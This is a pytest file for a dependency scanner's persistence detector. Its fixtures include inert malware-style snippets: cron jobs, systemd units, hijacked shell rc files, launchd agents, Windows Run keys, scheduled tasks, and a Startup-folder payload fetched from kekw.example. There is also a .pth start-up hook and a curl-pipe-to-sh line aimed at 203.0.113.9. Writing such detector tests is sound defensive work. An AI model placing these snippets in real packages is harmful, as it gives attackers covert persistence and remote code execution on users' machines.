"""Persistence family: cron, service units, shell rc, autostart, launchd, Run keys, tasks,
the Startup folder and Python start-up hooks. Samples are inert text; nothing is run."""

from __future__ import annotations

import pytest

from depvet.analysis.detectors.persistence import command_mechanisms
from depvet.model import Severity
from tests.conftest import ScanFiles, rule_ids

SETUP = "import os, sys, shutil, subprocess\nfrom setuptools import setup\n"

MUST_TRIGGER: list[tuple[str, dict[str, str]]] = [
    # DV601 service units
    (
        "DV601",
        {
            "pkgx/__init__.py": (
                "from pathlib import Path\nimport subprocess\n"
                "unit = Path.home() / '.config' / 'systemd' / 'user' / 'sysmon.service'\n"
                "unit.parent.mkdir(parents=True, exist_ok=True)\n"
                "unit.write_text('[Unit]\\nDescription=System Telemetry Service\\n[Service]\\nRestart=always\\n')\n"
            )
        },
    ),
    ("DV601", {"install.sh": "#!/bin/sh\nsystemctl --user enable --now sysmon.service\n"}),
    # DV602 cron
    (
        "DV602",
        {
            "setup.py": SETUP
            + 'os.system("echo \'* */1 * * * " + sys.executable + " /tmp/.u.py\' | crontab -")\n'
        },
    ),
    (
        "DV602",
        {
            "pkgx/__init__.py": (
                "from crontab import CronTab\n"
                "cron = CronTab(user=True)\n"
                "job = cron.new(command='python3 ~/.cache/.x/agent.py')\njob.minute.every(5)\ncron.write()\n"
            )
        },
    ),
    ("DV602", {"cron.sh": "#!/bin/bash\necho '*/5 * * * * root /tmp/.x' >> /etc/crontab\n"}),
    (
        "DV602",
        {
            "pkgx/cron.py": "import subprocess\n\ndef install(line):\n    subprocess.run(['crontab', '-'], input=line.encode())\n"
        },
    ),
    # DV603 shell start-up files
    (
        "DV603",
        {
            "pkgx/__init__.py": (
                "from pathlib import Path\n"
                "with (Path.home() / '.zshrc').open('a') as f:\n"
                "    f.write('alias sudo=\"~/.local/bin/.s\"\\n')\n"
            )
        },
    ),
    ("DV603", {"setup.py": SETUP + "os.system('echo \"export PATH=/tmp/.bin:$PATH\" >> ~/.bashrc')\n"}),
    # DV604 XDG autostart
    (
        "DV604",
        {
            "pkgx/__init__.py": (
                "import os, shutil, sys\n"
                "dest = os.path.join(os.path.expanduser('~'), '.config', 'autostart')\n"
                "shutil.copy(os.path.join(os.path.dirname(__file__), 'agent.desktop'), dest)\n"
            )
        },
    ),
    # DV605 launchd
    (
        "DV605",
        {
            "mac.sh": "#!/bin/sh\ncp agent.plist ~/Library/LaunchAgents/\nlaunchctl load ~/Library/LaunchAgents/agent.plist\n"
        },
    ),
    (
        "DV605",
        {
            "pkgx/__init__.py": (
                "import plistlib, os\n"
                "with open(os.path.expanduser('~/Library/LaunchAgents/com.apple.sync.plist'), 'wb') as f:\n"
                "    plistlib.dump({'Label': 'com.apple.sync', 'RunAtLoad': True}, f)\n"
            )
        },
    ),
    # DV606 Run keys: star import, reg add, CreateKeyEx through variables
    (
        "DV606",
        {
            "pkgx/__init__.py": (
                "from winreg import *\nimport sys\n"
                "k = OpenKey(HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, KEY_ALL_ACCESS)\n"
                "SetValueEx(k, 'winupdate', 0, REG_SZ, sys.argv[0])\n"
            )
        },
    ),
    (
        "DV606",
        {
            "setup.py": SETUP
            + 'subprocess.Popen(f\'reg add "HKEY_CURRENT_USER\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\RunOnce" '
            + '/v Upd /t REG_SZ /d "{sys.executable}"\', shell=False)\n'
        },
    ),
    (
        "DV606",
        {
            "pkgx/svc.py": (
                "import winreg\n\ndef persist(path):\n"
                "    key1 = winreg.HKEY_CURRENT_USER\n"
                "    key2 = 'SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run'\n"
                "    opened = winreg.CreateKeyEx(key1, key2, 0, winreg.KEY_WRITE)\n"
                "    winreg.SetValueEx(opened, 'Realtek', 0, winreg.REG_SZ, path)\n"
            )
        },
    ),
    (
        "DV606",
        {
            "run.bat": "@echo off\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d %TEMP%\\x.exe /f\r\n"
        },
    ),
    # DV607 scheduled tasks
    (
        "DV607",
        {
            "setup.py": SETUP
            + "subprocess.run(['schtasks', '/Create', '/SC', 'ONLOGON', '/TN', 'Upd', '/TR', 'C:\\\\x.vbs'])\n"
        },
    ),
    ("DV607", {"task.ps1": "Register-ScheduledTask -TaskName Upd -Action $a -Trigger $t\n"}),
    # DV608 Startup folder
    (
        "DV608",
        {
            "pkgx/__init__.py": (
                "import os, requests\n"
                "startup = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')\n"
                "r = requests.get('https://kekw.example/run.py')\n"
                "with open(os.path.join(startup, 'run.pyw'), 'wb') as f:\n    f.write(r.content)\n"
            )
        },
    ),
    (
        "DV608",
        {
            "pkgx/grab.py": (
                "import os\nfrom shutil import copy2\nfrom sys import argv\n\ndef startup():\n"
                "    path = os.getenv('appdata') + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\'\n"
                "    copy2(argv[0], path)\n"
            )
        },
    ),
    # DV609 Python start-up hooks
    (
        "DV609",
        {
            "setup.py": SETUP
            + "import sysconfig\n"
            + "with open(os.path.join(sysconfig.get_paths()['purelib'], 'zz-hook.pth'), 'w') as f:\n"
            + "    f.write('import os; os.system(\"id\")\\n')\n"
        },
    ),
    (
        "DV609",
        {
            "pkgx/__init__.py": (
                "import site, pathlib\n"
                "pathlib.Path(site.getusersitepackages(), 'usercustomize.py').write_text('import pkgx._agent\\n')\n"
            )
        },
    ),
    # DV610: install/import-time persistence, persisted downloads
    (
        "DV610",
        {
            "setup.py": SETUP
            + "os.system('schtasks /create /tn PythonUpdate /tr \"C:\\\\ProgramData\\\\u.exe\" /sc HOURLY')\n"
        },
    ),
    (
        "DV610",
        {
            "pkgx/tools.py": (
                "import os\n\ndef enable():\n"
                "    with open(os.path.expanduser('~/.profile'), 'a') as f:\n"
                "        f.write('curl -fsSL http://203.0.113.9/x | sh\\n')\n"
            )
        },
    ),
]

MUST_NOT_TRIGGER: list[tuple[str, dict[str, str]]] = [
    (
        "DV601",
        {
            "pkgx/status.py": "import subprocess\n\ndef state():\n    return subprocess.run(['systemctl', 'status', 'x'])\n"
        },
    ),
    ("DV601", {"docs.sh": "#!/bin/sh\n# run: systemctl --user enable --now foo.service\necho see docs\n"}),
    ("DV602", {"pkgx/__init__.py": "import os\nos.system('crontab -l > /tmp/backup')\n"}),
    ("DV602", {"pkgx/__init__.py": "import os\nJOBS = open('/etc/crontab').read()\n"}),
    (
        "DV603",
        {"pkgx/__init__.py": "class C:\n    def __init__(self, profile):\n        self.profile = profile\n"},
    ),
    (
        "DV603",
        {"pkgx/shell.py": "import os\nRC = os.path.expanduser('~/.bashrc')\nHAS = os.path.exists(RC)\n"},
    ),
    (
        "DV604",
        {
            "pkgx/fab.py": "class Mock:\n    def __init__(self, autostart=True):\n        self.autostart = autostart\n"
        },
    ),
    (
        "DV605",
        {
            "pkgx/mac.py": "import plistlib, os\nP = plistlib.load(open(os.path.expanduser('~/Library/LaunchAgents/a.plist'), 'rb'))\n"
        },
    ),
    (
        "DV606",
        {
            "pkgx/proxy.py": (
                "import winreg\n"
                "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings')\n"
                "winreg.SetValueEx(k, 'ProxyEnable', 0, winreg.REG_DWORD, 1)\n"
            )
        },
    ),
    ("DV607", {"pkgx/__init__.py": "import subprocess\nsubprocess.run(['schtasks', '/query'])\n"}),
    ("DV608", {"pkgx/__init__.py": "import os\nSTARTUP_TIMEOUT = 5\nprint('Startup complete')\n"}),
    (
        "DV609",
        {
            "pkgx/__init__.py": "import site, os\nPTH = [p for p in os.listdir(site.getsitepackages()[0]) if p.endswith('.pth')]\n"
        },
    ),
    (
        "DV609",
        {
            "pkgx/build.py": "import os\n\ndef write(dist):\n    open(os.path.join(dist, 'pkgx.pth'), 'w').write('src\\n')\n"
        },
    ),
    (
        "DV610",
        {
            "pkgx/cron.py": "import subprocess\n\ndef install(line):\n    subprocess.run(['crontab', '-'], input=line.encode())\n"
        },
    ),
]


@pytest.mark.parametrize(
    ("rule_id", "files"), MUST_TRIGGER, ids=[f"{r}-{i}" for i, (r, _) in enumerate(MUST_TRIGGER)]
)
def test_must_trigger(rule_id: str, files: dict[str, str], scan_files: ScanFiles) -> None:
    result = scan_files(files)
    assert rule_id in rule_ids(result), [f"{f.rule_id} {f.evidence}" for f in result.findings]


@pytest.mark.parametrize(
    ("rule_id", "files"), MUST_NOT_TRIGGER, ids=[f"{r}-{i}" for i, (r, _) in enumerate(MUST_NOT_TRIGGER)]
)
def test_must_not_trigger(rule_id: str, files: dict[str, str], scan_files: ScanFiles) -> None:
    result = scan_files(files)
    assert rule_id not in rule_ids(result), [f"{f.rule_id} {f.evidence}" for f in result.findings]


def test_function_nobody_calls_is_medium(scan_files: ScanFiles) -> None:
    code = "import os\n\ndef add(line):\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write(line)\n"
    result = scan_files({"pkgx/completion.py": code})
    assert {f.severity for f in result.findings if f.rule_id == "DV603"} == {Severity.MEDIUM}
    assert "DV610" not in rule_ids(result)


def test_tests_folder_is_low(scan_files: ScanFiles) -> None:
    result = scan_files({"tests/test_cron.py": "import os\nos.system('echo x | crontab -')\n"})
    assert {f.severity for f in result.findings if f.rule_id == "DV602"} <= {Severity.LOW, Severity.INFO}


@pytest.mark.parametrize(
    ("command", "mechanism"),
    [
        ("(crontab -l; echo '* * * * * /tmp/x') | crontab -", "cron"),
        ("crontab /tmp/mycron", "cron"),
        ("systemctl --user enable --now sysmon.service", "service unit"),
        ('schtasks /Create /SC ONCE /TN "Updater" /TR "C:\\x.vbs"', "scheduled task"),
        (
            'copy x.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe"',
            "Windows Startup folder",
        ),
    ],
)
def test_command_mechanisms(command: str, mechanism: str) -> None:
    assert [m for m, _ in command_mechanisms(command)][:1] == [mechanism]


@pytest.mark.parametrize(
    "command", ["crontab -l", "crontab -r", "systemctl status x", "schtasks /query", "echo ~/.bashrc"]
)
def test_not_command_mechanisms(command: str) -> None:
    assert list(command_mechanisms(command)) == []
